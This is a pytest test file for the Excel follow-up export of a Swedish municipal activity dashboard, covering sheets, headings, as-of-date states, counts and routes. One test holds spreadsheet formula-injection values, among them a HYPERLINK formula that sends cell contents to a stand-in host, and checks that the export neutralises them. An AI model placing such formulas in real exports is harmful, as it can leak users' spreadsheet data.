"""The follow-up as Excel: the activities as they stood at the period's end, the counts per
council and section, Swedish headings, a frozen and filtered header, real dates and numbers, and
never a formula made of text from the database."""

import io
from datetime import UTC, datetime
from typing import Any

import pytest
from flask.testing import FlaskClient
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet.worksheet import Worksheet
from sqlalchemy import select
from sqlalchemy.orm import Session

from dashboard.db import Database
from dashboard.exports import follow_up_xlsx
from dashboard.exports.routes import XLSX
from dashboard.services import activities, follow_up
from dashboard.services.imports import escape_formula, unescape_formula
from models import Activity, ActivityUpdate, User, rules
from models.base import stockholm_today
from models.enums import ActivityStatus, Schedule, Section, label
from models.queries import follow_up as fq

TODAY = stockholm_today()
NOW = datetime.now(UTC)
ACTIVITY_HEADINGS = [
    "Nämnd",
    "Planår",
    "Avsnitt",
    "Aktivitet",
    "Ansvarig",
    "Tidplan",
    "Uppföljning",
    "Mål",
    "Status",
    "Utfall",
    "Kommentar",
    "Genomförd",
    "Bedömning",
    "Senast uppföljd",
    "Id",
    "Version",
]


def export(session: Session, year: int, period: str, council: str | None) -> Workbook:
    wanted = follow_up.parse_request(session, year, period, council, TODAY)
    content = follow_up_xlsx.workbook(follow_up.build_report(session, wanted, NOW))
    return load_workbook(io.BytesIO(content))


def table(ws: Worksheet, first: str = "Nämnd") -> tuple[int, list[str], list[dict[str, Any]]]:
    """The sheet's header row number, its headings and its rows as dicts of cells."""
    top = next(r for r in range(1, 15) if ws.cell(r, 1).value == first)
    headings = [c.value for c in ws[top] if c.value is not None]
    rows = []
    for r in range(top + 1, ws.max_row + 1):
        cells = {h: ws.cell(r, i) for i, h in enumerate(headings, start=1)}
        if all(c.value is None for c in cells.values()):
            break  # the table ends at the first empty row
        rows.append(cells)
    return top, headings, rows


def _council(session: Session, code: str) -> int:
    found = rules.find_council(session, code)
    assert found is not None
    return found.id


def test_ostermalm_t1_2023_shows_its_activities_as_they_stood_on_30_april(
    demo_db: Database,
) -> None:
    with demo_db.session() as session:
        book = export(session, 2023, "t1", "OST")
        assert book.sheetnames == ["Sammanfattning", "Per avsnitt", "Östermalm"]
        ws = book["Östermalm"]
        assert ws["A1"].value == "Uppföljning T1 2023 – Östermalm"
        titles = [ws.cell(r, 1).value for r in range(1, 9)]
        assert "Läge per 30 april 2023 kl. 23.59" in titles
        assert any(
            str(t).startswith("Period för import: 2023-t1, läge 2023-04-30T22:00") for t in titles
        )

        top, headings, rows = table(ws)
        assert headings == ACTIVITY_HEADINGS
        assert ws.freeze_panes == f"A{top + 1}"
        assert ws.auto_filter.ref == f"A{top}:P{top + len(rows)}"
        header = ws.cell(top, 1)
        assert header.font.b and header.fill.fgColor.rgb.endswith("1F4E79")
        assert header.font.color.rgb.endswith("FFFFFF")  # white on dark blue

        period = rules.period(2023, "t1")
        expected = fq.activities_as_of(session, period, _council(session, "OST"), NOW)
        assert [r["Id"].value for r in rows] == [a.id for a in expected] and len(rows) == 9
        for row, activity in zip(rows, expected, strict=True):
            assert row["Nämnd"].value == "OST" and row["Planår"].value == 2023
            assert row["Status"].value == label(activity.status)
            assert row["Kommentar"].value == activity.comment
            assert row["Bedömning"].value == fq.STANDING_LABELS[activity.standing]
            assert row["Version"].value == activity.version
            assert row["Avsnitt"].value == label(activity.section)
            last = row["Senast uppföljd"]
            assert isinstance(last.value, datetime) and last.number_format == "yyyy-mm-dd hh:mm"
        # Done or cancelled later in 2023: the sheet still says what was true on 30 April.
        now = {
            a.id: a.status
            for a in session.scalars(
                select(Activity).where(Activity.id.in_([a.id for a in expected]))
            )
        }
        later = [r for r in rows if label(now[r["Id"].value]) != r["Status"].value]
        assert later and all(r["Status"].value == "Pågår" for r in later)

        # The counts per section and in total, as the report counts them.
        counts = fq.counts(session, period, _council(session, "OST"), NOW)[_council(session, "OST")]
        _top, section_headings, section_rows = table(book["Per avsnitt"])
        assert section_headings[:4] == ["Nämnd", "Avsnitt", "Aktiviteter", "Att genomföra"]
        for section, row in zip(Section, section_rows, strict=True):
            part = counts.by_section[section]
            assert row["Avsnitt"].value == label(section)
            assert row["Aktiviteter"].value == part.total
            assert row["Att genomföra"].value == part.due
            assert row["Genomförda"].value == part.done  # in time or late, as every view says
            assert row["Löpande uppföljda"].value == part[fq.Standing.CONTINUOUS_UPDATED]
            assert row["Ej förfallna"].value == part[fq.Standing.UPCOMING]
        _top, summary_headings, summary_rows = table(book["Sammanfattning"])
        assert summary_headings == [
            "Nämnd",
            "Aktiviteter",
            "Att genomföra",
            "Genomförda",
            "varav efter tidplan",
            "Försenade",
            "Inställda",
            "Löpande uppföljda",
            "Löpande utan uppföljning",
            "Ej förfallna",
            "Överförda till nästa års plan",
            "Genomförandegrad",
            "Samma period i fjol",
            "Händelser",
            "Händelser i fjol",
        ]
        ostermalm, total = summary_rows
        assert ostermalm["Nämnd"].value == "Östermalm" and total["Nämnd"].value == "Totalt"
        assert ostermalm["Aktiviteter"].value == counts.total.total == 9
        incidents = fq.incident_counts(session, period, _council(session, "OST"))[None]
        assert ostermalm["Händelser"].value == incidents.total[0]
        assert ostermalm["Händelser i fjol"].value == incidents.total[1]
        assert ostermalm["Genomförandegrad"].value is None  # nothing was due by 30 April


def test_the_city_has_a_sheet_per_council_of_the_period_with_dates_numbers_and_percents(
    demo_db: Database,
) -> None:
    with demo_db.session() as session:
        book = export(session, 2023, "t2", None)
        period = rules.period(2023, "t2")
        councils = fq.reporting_councils(session, period.end)
        assert book.sheetnames == ["Sammanfattning", "Per avsnitt", *(c.name for c in councils)]
        assert "Östermalm" not in book.sheetnames  # merged into Norra innerstaden on 1 July
        everything = fq.activities_as_of(session, period, None, NOW)
        for council in councils:
            _top, headings, rows = table(book[council.name])
            assert headings == ACTIVITY_HEADINGS
            assert [r["Id"].value for r in rows] == [
                a.id for a in everything if a.council_id == council.id
            ]
        _top, _h, nin = table(book["Norra innerstaden"])
        assert {r["Nämnd"].value for r in nin} == {"NOR", "OST"}  # the plans' own councils

        done = [
            r["Genomförd"]
            for c in councils
            for r in table(book[c.name])[2]
            if r["Genomförd"].value is not None
        ]
        assert done and all(
            type(c.value) is datetime and c.number_format == "yyyy-mm-dd" for c in done
        )
        dated = [
            r["Tidplan"]
            for c in councils
            for r in table(book[c.name])[2]
            if not isinstance(r["Tidplan"].value, str)
        ]
        assert all(c.number_format == "yyyy-mm-dd" for c in dated)

        report = follow_up.build_report(session, follow_up.ReportRequest(period, None), NOW)
        _top, _h, summary = table(book["Sammanfattning"])
        assert [r["Nämnd"].value for r in summary] == [
            *(c.name for c in councils),
            "Totalt, hela staden",
        ]
        total = summary[-1]
        assert total["Att genomföra"].value == report.total.due
        assert report.total.completion is not None
        assert total["Genomförandegrad"].value == pytest.approx(report.total.completion / 100)
        assert total["Genomförandegrad"].number_format == "0.0%"
        assert total["Händelser"].value == report.incidents.total[0]
        assert all(isinstance(r["Aktiviteter"].value, int) for r in summary)


HOSTILE = {
    "description": '=HYPERLINK("http://example.org/?"&A1,"Klicka")',
    "responsible": "+1",
    "target": "@x",
    "comment": "-2",
    "outcome": "'=redan citerad",
}


def test_text_from_the_database_is_never_a_formula(demo_db_writable: Database) -> None:
    with demo_db_writable.session() as session:
        ost = _council(session, "OST")
        target = fq.activities_as_of(session, rules.period(2023, "t1"), ost, NOW)[0]
        activity = session.get(Activity, target.id)
        assert activity is not None
        for name, value in HOSTILE.items():
            setattr(activity, name, value)
        session.query(ActivityUpdate).filter_by(activity_id=activity.id).delete()
        session.commit()
        book = export(session, 2023, "t1", "OST")
        for ws in book.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"
        _top, _h, rows = table(book["Östermalm"])
        row = next(r for r in rows if r["Id"].value == activity.id)
        titles = {"description": "Aktivitet", "responsible": "Ansvarig", "target": "Mål"}
        titles |= {"comment": "Kommentar", "outcome": "Utfall"}
        for name, value in HOSTILE.items():
            cell = row[titles[name]]
            assert cell.data_type == "s" and cell.value == "'" + value
            assert cell.quotePrefix  # Excel keeps it text when the cell is edited
            assert unescape_formula(cell.value) == value


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+46", "-", "@SUM(A1)", "\t=1", "\r=1", "'", "''=x", "'=x", "'hej", "hej", "a=b", ""],
)
def test_the_formula_escape_is_undone_exactly(text: str) -> None:
    escaped = escape_formula(text)
    assert unescape_formula(escaped) == text
    assert escaped[:1] not in ("=", "+", "-", "@", "\t", "\r")


def test_a_change_in_may_shows_in_t2_not_in_t1(demo_db_writable: Database) -> None:
    """The as-of rule: a follow-up made on 15 May is not in T1 (30 April) but is in T2."""
    with demo_db_writable.session() as session:
        admin = session.scalars(select(User).where(User.username == "admin")).one()
        ost = _council(session, "OST")
        t1 = rules.period(2023, "t1")
        before = next(
            a for a in fq.activities_as_of(session, t1, ost, NOW) if a.schedule is Schedule.DEADLINE
        )
        assert before.status is ActivityStatus.ONGOING
        activity = activities.update_activity(
            session,
            admin,
            before.id,
            {"version": before.version, "status": "cancelled", "comment": "Flyttas till hösten"},
            TODAY,
        )
        may = datetime(2023, 5, 15, 8, 0, tzinfo=UTC)
        update = session.scalars(
            select(ActivityUpdate)
            .where(ActivityUpdate.activity_id == activity.id)
            .order_by(ActivityUpdate.id.desc())
        ).first()
        assert update is not None
        update.at = may
        activity.last_update_at = may
        # Later follow-ups (autumn 2023 in the demo data) would hide it in T2: drop them.
        for later in session.scalars(
            select(ActivityUpdate).where(
                ActivityUpdate.activity_id == activity.id, ActivityUpdate.at > may
            )
        ):
            session.delete(later)
        session.commit()

        _top, _h, t1_rows = table(export(session, 2023, "t1", "OST")["Östermalm"])
        _top, _h, t2_rows = table(export(session, 2023, "t2", "NIN")["Norra innerstaden"])
        in_t1 = next(r for r in t1_rows if r["Id"].value == activity.id)
        in_t2 = next(r for r in t2_rows if r["Id"].value == activity.id)
        assert in_t1["Status"].value == "Pågår"
        assert in_t1["Kommentar"].value != "Flyttas till hösten"
        assert in_t2["Status"].value == "Inställd"
        assert in_t2["Kommentar"].value == "Flyttas till hösten"
        assert in_t2["Bedömning"].value == "Inställd"
        assert in_t2["Senast uppföljd"].value == datetime(2023, 5, 15, 10, 0)  # Stockholm time


# --- the address -------------------------------------------------------------------------------


def test_the_export_address_gives_an_xlsx_file(login_as: Any) -> None:
    client: FlaskClient = login_as("ostermalm")
    response = client.get("/export/uppfoljning.xlsx?year=2023&period=t1&council=OST")
    assert response.status_code == 200
    assert response.mimetype == XLSX
    assert "uppfoljning-t1-2023-OST.xlsx" in response.headers["Content-Disposition"]
    book = load_workbook(io.BytesIO(response.data))
    assert book.sheetnames == ["Sammanfattning", "Per avsnitt", "Östermalm"]


@pytest.mark.parametrize(
    ("query", "status", "message"),
    [
        ("year=1999&period=t1", 400, "Välj ett år mellan 2017"),
        ("year=2023&period=t9", 400, "Välj period"),
        ("year=2023&period=t1&council=XYZ", 404, "Nämnden finns inte"),
        ("year=2023&period=t2&council=OST", 400, "gick upp i Norra innerstaden"),
    ],
)
def test_a_bad_address_gets_a_swedish_message(
    login_as: Any, query: str, status: int, message: str
) -> None:
    client: FlaskClient = login_as("admin")
    response = client.get(f"/export/uppfoljning.xlsx?{query}")
    assert response.status_code == status
    assert message in response.get_data(as_text=True)
    assert response.mimetype == "text/html"


def test_the_export_needs_a_login(client: FlaskClient) -> None:
    response = client.get("/export/uppfoljning.xlsx?year=2023&period=t1&council=OST")
    assert response.status_code in (302, 401)
    if response.status_code == 302:
        assert "/login" in response.headers["Location"]
